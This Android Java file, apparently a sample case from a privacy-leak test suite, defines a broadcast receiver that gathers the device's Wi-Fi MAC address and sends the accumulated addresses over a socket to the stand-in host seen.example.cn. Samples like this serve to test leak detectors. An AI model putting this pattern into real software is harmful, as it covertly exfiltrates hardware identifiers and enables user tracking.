package cn.privlens.suite.hardware_addresses_joined;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.net.wifi.WifiManager;
import android.text.TextUtils;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.util.HashSet;
import java.util.Set;

class Seen extends BroadcastReceiver {
    private final Set<String> addresses = new HashSet<>();

    @Override
    public void onReceive(Context context, Intent intent) {
        WifiManager wifi = (WifiManager) context.getSystemService(Context.WIFI_SERVICE);
        addresses.add(wifi.getConnectionInfo().getMacAddress());
        final String line = TextUtils.join(",", addresses);
        new Thread() {
            @Override
            public void run() {
                try {
                    Socket socket = new Socket("seen.example.cn", 7001);
                    new DataOutputStream(socket.getOutputStream()).writeUTF(line);
                    socket.close();
                } catch (IOException e) {
                    e.printStackTrace();
                }
            }
        }.start();
    }
}
